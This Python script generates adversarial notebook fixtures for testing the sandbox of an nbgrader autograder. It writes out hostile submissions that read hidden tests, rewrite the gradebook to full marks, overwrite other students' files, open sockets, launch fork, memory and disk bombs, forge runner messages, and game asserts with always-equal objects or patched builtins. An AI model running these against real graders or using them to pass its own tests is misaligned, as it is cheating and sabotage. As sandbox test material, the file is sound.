"""Regenerate ``fixtures/*.ipynb``: one submission of ``ps1`` per attack or breakage, named after it.

Run ``python tests/grader/make_fixtures.py`` after changing ``ps1.py``. Each fixture starts from the
notebook nbgrader released (cell ids, checksums and metadata as a student receives them), fills in
honest answers, and then adds the attack. ``test_adversarial.py`` states the exact outcome of each.
"""

from __future__ import annotations

import copy
import tempfile
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

import ps1

SQUARES = "def squares(n):\n    return [i * i for i in range(1, n + 1)]"
MEAN = "def column_mean(path, column):\n    return float(pd.read_csv(path)[column].mean())"
LABEL = 'def label(score):\n    return "high" if score > 5 else "low"'
SETUP, SQ, TEST_SQ, MEAN_CELL, TEST_MEAN, LABEL_CELL, TEST_LABEL = 1, 2, 3, 4, 5, 6, 7


def honest(nb):
    nb = copy.deepcopy(nb)
    nb.cells[SQ].source, nb.cells[MEAN_CELL].source, nb.cells[LABEL_CELL].source = SQUARES, MEAN, LABEL
    return nb


def after(nb, index: int, source: str):
    """``nb`` with a student-added code cell right after cell ``index``."""
    nb.cells.insert(index + 1, new_code_cell(source, id=f"added-after-{index}"))
    return nb


FIND_FILES = '''import os
def find(names):
    hits = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".pyenv", ".git")]
        hits += [os.path.join(root, f) for f in files if f in names]
    return hits
'''

ATTACKS = {
    "honest": lambda nb: nb,
    "partial": lambda nb: _set(nb, SQ, "def squares(n):\n    return [i for i in range(1, n + 1)]"),
    "warns_in_test_cell": lambda nb: _set(nb, MEAN_CELL, "import warnings\n" + MEAN.replace(
        "    return", '    warnings.warn("this will change", FutureWarning)\n    return')),
    "reads_hidden_tests": lambda nb: after(nb, SETUP, FIND_FILES + '''
leaked = []
for path in find({"ps1.ipynb", "gradebook.db", "nbgrader_config.py"}) + ["../../../source/ps1/ps1.ipynb"]:
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    if "HIDDEN" in text or "tenth square" in text:
        leaked.append(path)
        print(text)
print("leaked:", leaked)'''),
    "writes_gradebook": lambda nb: after(nb, SETUP, FIND_FILES + '''
import sqlite3
for path in find({"gradebook.db"}) + ["../../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("changed", path)
    except Exception as error:
        print("could not change", path, error)'''),
    "writes_gradebook_nearby": lambda nb: after(nb, SETUP, '''import sqlite3
try:
    db = sqlite3.connect("../../../gradebook.db")
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
    print("changed the gradebook")
except Exception as error:
    print("could not change the gradebook:", error)'''),
    "changes_other_students_grades": lambda nb: after(nb, SETUP, FIND_FILES + '''
import json
for path in find({"ps1.ipynb"}) + find({"gradebook.db"}):
    try:
        with open(path, "w") as f:
            f.write("{}")
        print("overwrote", path)
    except OSError as error:
        print("could not write", path, error)'''),
    "writes_outside_folder": lambda nb: after(nb, SETUP, '''
import os
for path in ["../escape.txt", "/tmp/ai-noord-escape.txt", "/escape.txt", "/etc/ai-noord-escape.txt",
             "/work/ai-noord-escape.txt", os.path.expanduser("~/../escape.txt")]:
    try:
        with open(path, "w") as f:
            f.write("escaped")
        print("wrote", path)
    except OSError as error:
        print("blocked", path, type(error).__name__)'''),
    "opens_network_socket": lambda nb: after(nb, SETUP, '''
import socket
for host in ["127.0.0.1", "10.0.2.2"]:
    try:
        with socket.create_connection((host, 47611), timeout=2) as s:
            s.sendall(b"hidden tests")
        print("connected", host)
    except OSError as error:
        print("no network to", host, error)'''),
    "always_equal_object": lambda nb: _set(nb, LABEL_CELL, '''class Anything(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__

def label(score):
    return Anything("?")'''),
    "silences_showtraceback": lambda nb: _set(after(nb, SETUP, '''ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None'''), SQ + 1, "def squares(n):\n    return []"),
    "patches_excepthook": lambda nb: after(nb, SETUP, "import sys\nsys.excepthook = lambda *args: None"),
    "patches_builtins": lambda nb: after(nb, SETUP, "import builtins\nbuiltins.isinstance = lambda obj, kind: True"),
    "patches_assert_helper": lambda nb: _set(after(nb, MEAN_CELL, "np.testing.assert_allclose = lambda *a, **k: None"),
                                             MEAN_CELL, "def column_mean(path, column):\n    return 0.0"),
    "sets_trace_hook": lambda nb: after(nb, SETUP, '''import sys
def tracer(frame, event, arg):
    if event == "line" and frame.f_code.co_filename.startswith("<cell"):
        frame.f_lineno = frame.f_lineno  # a real attack would jump over the asserts here
    return tracer
sys.settrace(tracer)'''),
    "calls_sys_exit": lambda nb: _set(nb, SQ, "import sys\ndef squares(n):\n    sys.exit(0)"),
    "calls_os_exit": lambda nb: _set(nb, LABEL_CELL, LABEL + "\nimport os\nos._exit(0)"),
    "infinite_loop_silent": lambda nb: _set(nb, SQ, "def squares(n):\n    while True:\n        pass"),
    "infinite_loop_printing": lambda nb: after(nb, SETUP, 'while True:\n    print("spam " * 20)'),
    "ignores_sigint": lambda nb: after(nb, TEST_SQ, '''import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass'''),
    "memory_bomb": lambda nb: after(nb, SETUP, '''def hog():
    blocks = []
    while True:
        blocks.append(bytearray(256 * 2**20))
hog()'''),
    "fork_bomb": lambda nb: after(nb, SETUP, "import os\nwhile True:\n    os.fork()"),
    "disk_bomb": lambda nb: after(nb, SETUP, '''n = 0
try:
    while True:
        with open(f"fill{n}.bin", "wb") as f:
            f.write(b"x" * (32 * 2**20))
        n += 1
except OSError as error:
    print("disk full after", n, "files:", error)
import os
for name in os.listdir("."):
    if name.startswith("fill"):
        os.remove(name)'''),
    "output_bomb": lambda nb: after(nb, SETUP, '''from IPython.display import HTML, display
for i in range(200_000):
    print("x" * 100)
for i in range(20):
    display(HTML("<b>bomb</b>" * 100_000))'''),
    "malformed_json": None,  # written below: a truncated file
    "old_nbformat": None,  # written below: nbformat 3
    "renamed_notebook": None,  # written below under another name
    "deleted_grade_cell": lambda nb: _delete(nb, TEST_SQ),
    "changed_cell_type": lambda nb: _retype(nb, TEST_SQ),
    "edits_locked_cell": lambda nb: _set(_set(nb, TEST_SQ, "pass  # no tests here"), SQ, "def squares(n):\n    return []"),
    "duplicated_grade_cell": lambda nb: _duplicate(nb, TEST_SQ),
    "changed_points": lambda nb: _points(nb, TEST_SQ, 100),
    "strips_test_metadata": lambda nb: _strip(_set(nb, TEST_SQ, "pass"), TEST_SQ, SQ),
    "kills_kernel_segfault": lambda nb: after(nb, TEST_MEAN, "import ctypes\nctypes.string_at(0)"),
    "inspects_runner_frames": lambda nb: _set(nb, SQ, '''import sys
def squares(n):
    caller = sys._getframe(1)
    print(sorted(caller.f_globals)[:3])
    return [i * i for i in range(1, n + 1)]'''),
    "forges_runner_messages": lambda nb: after(nb, SETUP, '''import json, os, struct
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
            for cell in range(20):
                data = json.dumps({"type": "result", "cell": cell, "nonce": "0" * 32, "status": "ok",
                                   "outputs": []}).encode()
                os.write(fd, struct.pack(">I", len(data)) + data)
    except OSError:
        pass'''),
    "searches_memory_for_tests": lambda nb: after(nb, TEST_LABEL, '''import gc
found = [o for o in gc.get_objects() if isinstance(o, str) and "tenth square" in o]
found += [o for o in gc.get_objects() if isinstance(o, dict) and "tenth square" in str(o.get("source", ""))]
print("found in memory:", found)'''),
    "waits_for_input": lambda nb: after(nb, SETUP, 'name = input("your name? ")'),
}


def _set(nb, index, source):
    nb.cells[index].source = source
    return nb


def _delete(nb, index):
    del nb.cells[index]
    return nb


def _retype(nb, index):
    cell = nb.cells[index]
    nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.get("id"))
    return nb


def _duplicate(nb, index):
    twin = copy.deepcopy(nb.cells[index])
    twin["id"] = twin["id"] + "-copy"
    nb.cells.insert(index, twin)
    return nb


def _points(nb, index, points):
    nb.cells[index].metadata.nbgrader["points"] = points
    return nb


def _strip(nb, index, answer_index):
    nb.cells[index].metadata = {}
    nb.cells[answer_index].source = "def squares(n):\n    return []"
    return nb


def main() -> None:
    ps1.write_source()
    with tempfile.TemporaryDirectory() as tmp:
        released = ps1.released(ps1.make_course(Path(tmp) / "course"))
    base = honest(released)
    for name, attack in ATTACKS.items():
        if attack is not None:
            nbformat.write(attack(copy.deepcopy(base)), ps1.FIXTURES / f"{name}.ipynb")
    text = nbformat.writes(base)
    (ps1.FIXTURES / "malformed_json.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
    old = nbformat.convert(copy.deepcopy(base), 3)
    nbformat.write(old, ps1.FIXTURES / "old_nbformat.ipynb", version=3)
    nbformat.write(base, ps1.FIXTURES / "renamed_notebook.ipynb")
    nbformat.write(released, ps1.FIXTURES / "blank.ipynb")


if __name__ == "__main__":
    main()
